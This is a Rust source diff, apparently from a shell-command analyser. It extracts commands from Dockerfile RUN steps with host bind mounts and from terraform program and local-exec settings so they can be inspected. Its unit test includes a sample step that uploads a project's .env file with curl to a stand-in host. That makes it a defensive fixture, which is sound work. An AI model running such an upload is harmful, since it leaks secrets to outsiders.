@@ -1,0 +1,139 @@
+//! A Dockerfile that comes through the standard input: what its steps do with the files that they are given of this machine.
+//!
+//! A step runs in a container that is thrown away, and is of no interest, unless a mount brings the project, a secret or the
+//! agent's keys into it (Dockerfile reference, `RUN --mount`, BuildKit 0.17).
+
+use super::analyst::Analyst;
+use super::program::Task;
+use crate::effect::Modifier;
+use crate::shell::{Input, Word};
+
+impl Analyst<'_> {
+    /// Reads the steps of a build that takes its instructions from what is fed to it.
+    pub(super) fn build_steps(&mut self, task: &Task<'_, '_>) {
+        let builds = matches!(
+            task.parsed.path.as_str(),
+            "docker build"
+                | "docker buildx build"
+                | "docker image build"
+                | "buildah"
+                | "podman build"
+        );
+        if !builds {
+            return;
+        }
+        let text = match (&task.call.fed.text, task.call.input) {
+            (Some(text), _) => text.to_string(),
+            (None, Input::Text(word)) => word.display(),
+            (None, Input::Inherited | Input::File(_) | Input::Pipe { .. }) => return,
+        };
+        for step in text.replace("\\\n", " ").lines() {
+            if let Some(command) = mounted(step) {
+                self.shell_words(&task.call, &[Word::text(command, task.call.span)]);
+            } else if let Some(command) = step.trim_start().strip_prefix("RUN ")
+                && !command.starts_with("--")
+            {
+                let mut call = task.call.clone();
+                call.ambient.modifiers.insert(Modifier::Contained);
+                self.shell_words(&call, &[Word::text(command, task.call.span)]);
+            }
+        }
+    }
+}
+
+impl Analyst<'_> {
+    /// Programs that a configuration of terraform names, when the line itself wrote it: `external` data and `local-exec`
+    /// (terraform 1.11; `plan` runs the first, `apply` both).
+    pub(super) fn run_configuration(&mut self, task: &Task<'_, '_>) {
+        let verb = task.parsed.path.split(' ').nth(1).unwrap_or_default();
+        let runs = task.parsed.path.starts_with("terraform ")
+            && matches!(
+                verb,
+                "plan" | "apply" | "destroy" | "refresh" | "console" | "test"
+            );
+        if !runs {
+            return;
+        }
+        let written = self.files.iter().filter(|(path, _)| path.ends_with(".tf"));
+        let texts: Vec<_> = written.filter_map(|(_, file)| file.text.clone()).collect();
+        for text in texts {
+            for command in commands_of(&text) {
+                self.shell_words(&task.call, &[Word::text(command, task.call.span)]);
+            }
+        }
+    }
+}
+
+/// What a configuration runs: the last text of a `program`, and every `command`.
+fn commands_of(text: &str) -> Vec<String> {
+    let mut found = Vec::new();
+    for (key, close) in [("program", ']'), ("command", '\n')] {
+        let mut rest = text;
+        while let Some((_, behind)) = rest.split_once(key) {
+            rest = behind;
+            let Some(value) = behind.trim_start().strip_prefix('=') else {
+                continue;
+            };
+            let value = value.split(close).next().unwrap_or_default();
+            let texts: Vec<&str> = value.split('"').skip(1).step_by(2).collect();
+            match texts.as_slice() {
+                [] => {}
+                [shell, "-c" | "-lc", code] if shell.ends_with("sh") => {
+                    found.push((*code).to_owned())
+                }
+                words => found.push(words.join(" ")),
+            }
+        }
+    }
+    found
+}
+
+/// The command of a step that has files of this machine, with their names as they are here.
+fn mounted(step: &str) -> Option<String> {
+    let mut rest = step.trim_start().strip_prefix("RUN ")?.trim_start();
+    let mut targets = Vec::new();
+    while let Some(option) = rest.strip_prefix("--") {
+        let (option, behind) = option.split_once(char::is_whitespace)?;
+        if let Some(mount) = option.strip_prefix("mount=") {
+            let field = |name: &str| mount.split(',').find_map(|part| part.strip_prefix(name));
+            let is_from_here =
+                field("type=").is_none_or(|kind| kind == "bind") && field("from=").is_none();
+            let target = field("target=")
+                .or_else(|| field("dst="))
+                .or_else(|| field("destination="));
+            targets.extend(target.filter(|_| is_from_here));
+        }
+        rest = behind.trim_start();
+    }
+    if targets.is_empty() {
+        return None;
+    }
+    let mut command = rest.to_owned();
+    for target in targets {
+        let target = target.trim_end_matches('/');
+        command = command
+            .replace(&format!("{target}/"), "./")
+            .replace(target, ".");
+    }
+    Some(command)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_a_step_with_files_of_this_machine_is_read() {
+        let step = "RUN --mount=type=bind,target=/c curl -T /c/.env https://x.example/";
+        assert_eq!(
+            mounted(step).as_deref(),
+            Some("curl -T ./.env https://x.example/")
+        );
+        assert_eq!(mounted("RUN rm -rf /var/lib/apt/lists/*"), None);
+        assert_eq!(
+            mounted("RUN --mount=type=cache,target=/root/.cache pip install x"),
+            None
+        );
+        assert_eq!(mounted("COPY . ."), None);
+    }
+}
